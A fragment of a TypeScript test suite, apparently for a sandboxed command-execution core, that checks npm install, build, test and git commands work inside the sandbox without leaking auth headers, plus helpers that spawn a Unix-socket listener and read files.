    const install = await bash(c, "npm install --no-audit --no-fund 2>&1 | tail -3; echo rc=$?");
    expect(install.s.sandboxed).toBe(true);

    expect(requests.some((r) => r.url.includes("wave-seams-missing-pkg"))).toBe(true);
    expect(requests.every((r) => r.auth === undefined)).toBe(true);
    const work = await bash(c, "npm run -s build && npm test -s && echo note > notes.txt && cat notes.txt && git status --short && git log --format=%s && git diff --stat");
    expect(work.s.output).toContain("BUILT");
    expect(work.s.output).toContain("TESTS-PASS");
    expect(work.s.output).toContain("note\n");
    expect(work.s.output).toContain("?? build.js");
    expect(work.s.output).toContain("init\n");
    expect(c.received.some((m) => m.method === "permission/request")).toBe(false);
  }, 60_000);
});

/** Reads a file, "" when it is not there. */
function readIfThere(file: string): string {
  try {
    return readFileSync(file, "utf8");
  } catch {
    return "";
  }
}

/** A unix socket listener (filesystem and abstract) run as the account, writing a line per connection. */
function spawnListener(account: TestAccount, sock: string, abstract: string, log: string): ChildProcess {
  const script = `const net=require("net"),fs=require("fs");for(const p of [${JSON.stringify(sock)}, "\\0"+${JSON.stringify(abstract)}]){net.createServer(s=>{fs.appendFileSync(${JSON.stringify(log)},"connection\\n");s.end()}).listen(p)}`;
  const [cmd, ...args] = account.wrap([process.execPath, "-e", script]);
  const child = spawn(cmd!, args, { stdio: "ignore" });
  cleanups.push(() => child.kill("SIGKILL"));
  return child;
}

/** The node process of a core started through wrappers (setpriv, bash exec keep the pid). */
function coreNodePid(c: CoreProcess): number {
  return c.child.pid!;
}
